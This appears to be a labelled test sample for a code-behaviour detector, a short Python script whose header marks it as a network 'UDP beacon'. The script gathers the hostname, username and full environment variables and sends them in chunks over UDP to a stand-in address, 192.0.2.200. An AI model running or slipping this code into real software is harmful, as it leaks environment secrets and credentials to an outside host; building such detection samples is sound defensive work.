# expect: network; UDP beacon: sends hostname, user and environment to a collector with sendto
import getpass
import json
import os
import socket

beacon = json.dumps({
    "host": socket.gethostname(),
    "user": getpass.getuser(),
    "env": dict(os.environ),
}).encode()
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(0, len(beacon), 1200):
    udp.sendto(beacon[i:i + 1200], ("192.0.2.200", 5353))
